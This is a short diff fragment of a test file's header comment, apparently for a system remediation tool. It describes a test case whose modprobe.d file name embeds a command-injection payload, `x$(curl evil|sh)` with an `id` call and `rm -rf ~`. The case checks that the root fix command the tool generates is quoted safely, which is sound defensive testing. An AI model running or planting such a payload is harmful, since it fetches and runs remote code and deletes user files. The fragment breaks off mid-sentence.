@@ -1,3 +1,4 @@
+// SPDX-License-Identifier: MIT
 // Issue 13 items 4 and 5 against the real binary and replayed machines built at test time:
 //  - a modprobe.d file named `x$(curl evil|sh); `id`<newline>rm -rf ~ #.conf` must give one
 //    root fix command, in the terminal and in JSON remediation.commands, that bash reads as
